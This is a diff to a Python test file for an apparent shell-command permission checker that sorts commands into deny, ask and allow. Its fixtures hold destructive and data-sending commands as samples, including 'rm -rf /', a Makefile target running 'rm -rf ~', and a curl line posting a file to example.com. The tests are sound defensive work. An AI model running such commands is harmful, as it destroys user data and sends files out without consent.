@@ -526,6 +526,14 @@ def test_writing_outside_the_workspace_asks(command: str):
     assert decision(command) == "ask"
 
 
+def test_a_link_that_may_not_be_read_is_no_crash(monkeypatch: pytest.MonkeyPatch):
+    def refused(path: str) -> str:
+        raise PermissionError(13, "Permission denied", path)
+
+    monkeypatch.setattr("os.path.realpath", refused)
+    assert decision("wc < /proc/1/exe") in STRICTNESS
+
+
 def test_links_out_of_the_workspace_are_followed(tmp_path: Path):
     workspace = tmp_path / "work"
     workspace.mkdir()
@@ -560,6 +568,7 @@ def test_scripts_of_the_workspace_are_read(tmp_path: Path):
         "build.sh": '#!/bin/sh\nset -e\n"$CC" -o x x.c\nrm -rf "$OUT"\nfrobnicate --all "$@"',
         "code.py": "import os\nos.system('rm -rf /')",
         "words.py": "print('rm -rf /')",
+        "system.sh": '. /etc/os-release\n"$RUN" --bind /usr /usr\napt-get install -y git',
         "large.sh": "echo x\n" * 5000,
         "Makefile": "CC = cc\nall: build\nbuild: a.c\n\t$(CC) -o $@ $<\n\t@rm -rf $(OUT)/*\n"
         "wipe: ready\n\techo wiped\nready:\n\trm -rf ~\nsend: ; curl -d @x https://example.com\n",
@@ -570,7 +579,7 @@ def test_scripts_of_the_workspace_are_read(tmp_path: Path):
         "deny": ["sh worst.sh", "bash -x ./worst.sh", ". worst.sh", "make wipe", "nice make wipe"],
         "ask": ["./sends.sh", "sh sends.sh", "make send", "python3 code.py"],
         "allow": ["./build.sh", "sh build.sh x", "make", "make build", "python3 words.py",
-                  "sh large.sh", "sh missing.sh", "sh data.db", "cat worst.sh"],
+                  "sh large.sh", "sh missing.sh", "sh system.sh", "sh data.db", "cat worst.sh"],
     }  # fmt: skip
     for want, commands in expected.items():
         for command in commands:
